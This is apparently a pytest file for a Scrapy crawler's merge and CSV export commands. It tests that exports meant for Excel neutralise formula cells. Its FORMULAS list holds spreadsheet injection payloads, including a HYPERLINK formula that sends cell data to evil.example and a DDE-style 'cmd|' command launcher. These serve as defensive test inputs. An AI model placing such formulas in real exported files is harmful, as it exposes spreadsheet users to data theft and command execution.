"""`scrapy merge` names the WARC files its merged rows point at that are missing, and exits 1
unless --allow-missing-warc (hostile-7 F18); `scrapy export --format csv --bom` (for Excel)
neutralises cells Excel would run as formulas, plain CSV keeps them (hostile-7 F17).

Both on the database of one real crawl of the generated report site on loopback.
"""

from __future__ import annotations

import csv
import shutil
import sqlite3
import subprocess
from pathlib import Path

import pytest

from bench.server import serving
from fixtureweb.crawl import REPO, SCRAPY, crawl
from pipelines.store.export import excel_safe

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1", "-2+3", "\t=1", "\r=1"]


@pytest.fixture(scope="module")
def worker(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A worker's DATA_DIR: reports.db and the WARC files its rows point at."""
    data = tmp_path_factory.mktemp("worker")
    with serving(20, kind="reports") as site:
        proc = crawl(data, None, "-a", f"start_urls={site.url}",
                     "-s", f"DEPTH_LIMIT={site.depth + 1}")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return data


def scrapy(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([SCRAPY, *args], cwd=REPO, capture_output=True, text=True,
                          timeout=300)


def warc_names(db_path: Path) -> list[str]:
    with sqlite3.connect(db_path) as db:
        return [n for (n,) in db.execute("select distinct warc_file from pages "
                                         "where warc_file is not null order by 1")]


def page_rows(db_path: Path) -> list[tuple]:
    with sqlite3.connect(db_path) as db:
        return db.execute("select url, warc_file, warc_offset from pages order by 1, 2, 3"
                          ).fetchall()


def db_only(worker: Path, folder: Path) -> Path:
    """A copy of the worker's database without its WARC files (a disk that lost them)."""
    folder.mkdir()
    shutil.copy(worker / "reports.db", folder / "reports.db")
    return folder


def test_merge_names_missing_warc_files_and_exits_1_with_every_row_merged(worker, tmp_path):
    names = warc_names(worker / "reports.db")
    assert names
    source = db_only(worker, tmp_path / "lost")
    out = tmp_path / "merged"
    proc = scrapy("merge", "-s", f"DATA_DIR={out}", str(source))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    warning = [line for line in proc.stderr.splitlines() if line.startswith(f"{source}:")]
    assert len(warning) == 1, proc.stderr
    assert f"{len(names)} WARC files its rows refer to are not in {out / 'warc'}" in warning[0]
    assert all(name in warning[0] for name in names)
    assert "--allow-missing-warc" in proc.stderr.splitlines()[-1]
    assert page_rows(out / "reports.db") == page_rows(worker / "reports.db")  # nothing lost


def test_merge_with_allow_missing_warc_exits_0(worker, tmp_path):
    source = db_only(worker, tmp_path / "lost")
    out = tmp_path / "merged"
    proc = scrapy("merge", "--allow-missing-warc", "-s", f"DATA_DIR={out}", str(source))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "WARC files its rows refer to are not in" in proc.stderr  # still said
    assert page_rows(out / "reports.db") == page_rows(worker / "reports.db")


def test_merge_of_a_whole_worker_or_its_database_beside_its_warcs_is_quiet(worker, tmp_path):
    out = tmp_path / "merged"
    whole = scrapy("merge", "-s", f"DATA_DIR={out}", str(worker))
    assert whole.returncode == 0, whole.stdout + whole.stderr
    assert whole.stderr == ""
    # The WARCs are now in out/warc: a database file merged after them misses none.
    again = scrapy("merge", "-s", f"DATA_DIR={out}", str(db_only(worker, tmp_path / "db")))
    assert again.returncode == 0, again.stdout + again.stderr
    assert again.stderr == ""


def formula_crawl(worker: Path, folder: Path) -> Path:
    """A copy of the crawl whose reports' titles and speakers are formulas, as text from a
    hacked page could be."""
    folder.mkdir()
    shutil.copy(worker / "reports.db", folder / "reports.db")
    with sqlite3.connect(folder / "reports.db") as db:
        ids = [i for (i,) in db.execute("select id from reports order by id")]
        assert ids, "the crawl stored no report"
        for n, report_id in enumerate(ids):
            db.execute("update reports set title = ?, speaker = ? where id = ?",
                       [FORMULAS[(2 * n) % len(FORMULAS)],
                        FORMULAS[(2 * n + 1) % len(FORMULAS)], report_id])
    return folder


def exported(data: Path, out: Path, *args: str) -> list[dict[str, str]]:
    proc = scrapy("export", "-s", f"DATA_DIR={data}", "--format", "csv", *args, "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    with open(out, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_export_for_excel_neutralises_formulas_and_plain_csv_keeps_them(worker, tmp_path):
    data = formula_crawl(worker, tmp_path / "data")
    with sqlite3.connect(data / "reports.db") as db:
        stored = db.execute("select title, speaker, chars from reports order by id").fetchall()
    excel = exported(data, tmp_path / "excel.csv", "--bom")
    assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    excel[0] = {k.removeprefix("\ufeff"): v for k, v in excel[0].items()}
    assert [(r["title"], r["speaker"]) for r in excel] == [
        ("'" + title, "'" + speaker) for title, speaker, _ in stored]
    assert [r["chars"] for r in excel] == [str(chars) for _, _, chars in stored]  # numbers kept
    plain = exported(data, tmp_path / "plain.csv")
    assert [(r["title"], r["speaker"]) for r in plain] == [(t, s) for t, s, _ in stored]


def test_excel_safe_marks_only_text_that_starts_a_formula():
    assert [excel_safe(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [excel_safe(v) for v in ("2023年报告", " =1", "a=b", "", -5, 1.5, None, b"=x")] == \
        ["2023年报告", " =1", "a=b", "", -5, 1.5, None, b"=x"]
